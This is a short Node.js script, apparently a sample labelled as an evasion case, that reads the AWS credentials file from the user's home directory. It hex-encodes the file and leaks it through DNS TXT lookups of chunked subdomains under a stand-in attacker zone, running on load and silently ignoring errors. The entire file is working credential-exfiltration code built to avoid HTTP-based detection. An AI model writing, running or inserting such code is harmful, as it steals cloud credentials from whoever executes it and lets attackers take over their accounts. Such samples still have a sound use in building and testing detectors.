// Evasion: exfiltrates the AWS credentials file over DNS. The file content is
// hex-encoded and cut into 60-character labels that are looked up as
// subdomains of an attacker zone with dns.promises.resolveTxt; no HTTP at all.
const { promises: dns } = require('dns');
const { readFile } = require('fs/promises');
const { join } = require('path');
const { homedir } = require('os');

async function main() {
  const raw = await readFile(join(homedir(), '.aws', 'credentials'));
  const hex = raw.toString('hex');
  for (let i = 0, n = 0; i < hex.length; i += 60, n++) {
    const label = hex.slice(i, i + 60);
    await dns.resolveTxt(`${label}.${n}.q.zone-cache.example.net`).catch(() => null);
  }
}
main();
